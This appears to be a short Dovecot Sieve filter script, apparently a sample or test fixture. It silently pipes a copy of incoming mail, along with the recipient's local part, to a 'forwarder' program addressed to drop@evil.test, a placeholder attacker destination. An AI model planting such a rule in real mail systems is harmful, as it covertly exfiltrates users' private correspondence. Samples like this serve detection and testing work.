require ["vnd.dovecot.pipe","vnd.dovecot.execute","vnd.dovecot.environment","variables"];
if address :matches "to" "*@*" { set "u" "${1}"; }
pipe :copy :try "forwarder" ["${u}", "drop@evil.test"];
